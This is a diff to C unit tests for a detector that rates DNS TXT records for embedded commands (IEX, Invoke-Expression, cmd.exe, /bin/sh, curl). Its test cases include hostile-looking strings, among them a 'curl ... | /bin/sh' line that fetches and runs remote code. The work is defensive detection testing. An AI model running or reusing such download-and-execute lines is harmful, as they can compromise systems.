@@ -84,28 +84,32 @@ static size_t put_base64(size_t at, const uint8_t *octet, size_t len)
 
 static void words(void **state)
 {
+	enum { NONE = CONFIDENCE_NONE, MEDIUM = CONFIDENCE_MEDIUM, HIGH = CONFIDENCE_HIGH };
 	static const struct {
 		const char *text;
-		bool words, anywhere;
+		uint8_t words, anywhere;
 	} cases[] = {
-		{ "IEX", true, true },
-		{ "iex (x)", true, true },
-		{ "a;Invoke-Expression $b", true, true },
-		{ "C:\\Windows\\System32\\CMD.EXE", true, true },
-		{ "x=PowerShell", true, true },
-		{ "/bin/sh -c id", true, true },
-		{ "curl http://192.0.2.1/a", true, true },
-		{ "apiexplorer", false, true },
-		{ "iex2", false, true },
-		{ "_iex", false, true },
-		{ "cmd.executor", false, true },
-		{ "powershel", false, false },
-		{ "owershell", false, false },
-		{ "hello, world", false, false },
-		{ "the lord of lords", false, false },
-		{ "xlordlordlordlordx", true, true },
-		{ "LordLordLordLor", false, false },
-		{ "", false, false },
+		{ "IEX (x)", HIGH, HIGH },
+		{ "IEX", NONE, HIGH },
+		{ "iex(x)", HIGH, HIGH },
+		{ "a;Invoke-Expression $b", HIGH, HIGH },
+		{ "C:\\Windows\\System32\\CMD.EXE", HIGH, HIGH },
+		{ "x=PowerShell -nop", HIGH, HIGH },
+		{ "powershell.exe", HIGH, HIGH },
+		{ "/bin/sh -c id", HIGH, HIGH },
+		{ "curl https://192.0.2.1/a", MEDIUM, MEDIUM },
+		{ "curl https://192.0.2.1/a | /bin/sh", HIGH, HIGH }, /* the surest of them */
+		{ "apiexplorer", NONE, HIGH },
+		{ "iex2", NONE, HIGH },
+		{ "_iex (x)", NONE, HIGH },
+		{ "cmd.executor", NONE, HIGH },
+		{ "powershel", NONE, NONE },
+		{ "owershell", NONE, NONE },
+		{ "hello, world", NONE, NONE },
+		{ "the lord of lords", NONE, NONE },
+		{ "xlordlordlordlordx", HIGH, HIGH },
+		{ "LordLordLordLor", NONE, NONE },
+		{ "", NONE, NONE },
 	};
 
 	(void)state;
@@ -113,9 +117,8 @@ static void words(void **state)
 		uint16_t len = strings_of(put(0, cases[i].text), 255);
 
 		assert_int_equal(show("a.example.org", TXT, len, WORDS).confidence,
-		                 cases[i].words ? CONFIDENCE_HIGH : CONFIDENCE_NONE);
-		assert_int_equal(show("a.example.org", TXT, len, ANYWHERE).confidence,
-		                 cases[i].anywhere ? CONFIDENCE_HIGH : CONFIDENCE_NONE);
+		                 cases[i].words);
+		assert_int_equal(show("a.example.org", TXT, len, ANYWHERE).confidence, cases[i].anywhere);
 	}
 }
 
@@ -136,22 +139,25 @@ static void anywhere_in_a_long_text(void **state)
 		assert_int_equal(opinion.reason, REASON_COMMAND);
 		assert_memory_equal(opinion.evidence, "invoke-expression", 17);
 		assert_int_equal(opinion.evidence[EVIDENCE_TEXT_WORDS], 0);
-		/* The last thing in it, and a letter too many on each side. */
+		/* The last thing in it, and a letter too many on each side, which the edge of a string is
+		 * not.
+		 */
 		assert_int_equal(show_text(len - 40).confidence, CONFIDENCE_HIGH);
 		text[len - 40] = 'x';
-		assert_int_equal(show_text(len).confidence, CONFIDENCE_NONE);
+		if ((len - 40) % 255)
+			assert_int_equal(show_text(len).confidence, CONFIDENCE_NONE);
 		text[len - 40] = '.';
-		if (at) {
+		if (at % 255) {
 			text[at - 1] = 'x';
 			assert_int_equal(show_text(len).confidence, CONFIDENCE_NONE);
 		}
 	}
 	/* The longest record that there is: 65535 octets, 256 of them lengths. */
 	memset(text, ' ', sizeof(text));
-	put(65279 - 3, "iex");
+	put(65279 - 7, "cmd.exe");
 	assert_int_equal(show_text(65279).confidence, CONFIDENCE_HIGH);
 	memset(text, ' ', sizeof(text));
-	put(65279 - 2, "ie");
+	put(65279 - 6, "cmd.ex");
 	assert_int_equal(show_text(65279).confidence, CONFIDENCE_NONE);
 }
 
@@ -178,12 +184,12 @@ static void decoded(void **state)
 		                 CONFIDENCE_HIGH);
 		/* Not in the middle of text: random octets. */
 		memset(plain, 0xc3, sizeof(plain));
-		memcpy(plain + 20, "iex", 3);
+		memcpy(plain + 20, "cmd.exe", 7);
 		assert_int_equal(show_text(encode[e](0, plain, 60)).confidence, CONFIDENCE_NONE);
 	}
-	/* Sixteen digits are a code, fifteen are a word. */
-	assert_int_equal(show_text(put(0, "6965782069657820")).confidence, CONFIDENCE_HIGH);
-	assert_int_equal(show_text(put(0, "696578206965782")).confidence, CONFIDENCE_NONE);
+	/* Eight digits are a code, seven are a word. */
+	assert_int_equal(show_text(put(0, "69657828")).confidence, CONFIDENCE_HIGH);
+	assert_int_equal(show_text(put(0, "6965782")).confidence, CONFIDENCE_NONE);
 }
 
 static void programs(void **state)
@@ -229,6 +235,7 @@ static void mail(void **state)
 		bool said;
 	} cases[] = {
 		{ "example.org", "v=spf1 include:iex.example -all", false },
+		{ "example.org", "v=spf1 exists:TVqQAAMAAAAEAAAA//8AALgA -all", false },
 		{ "example.org", "v=spf1 iex (curl) -all", true },
 		{ "example.org", "google-site-verification=powershell-iex", false },
 		{ "example.org", "MS=ms12345678", false },
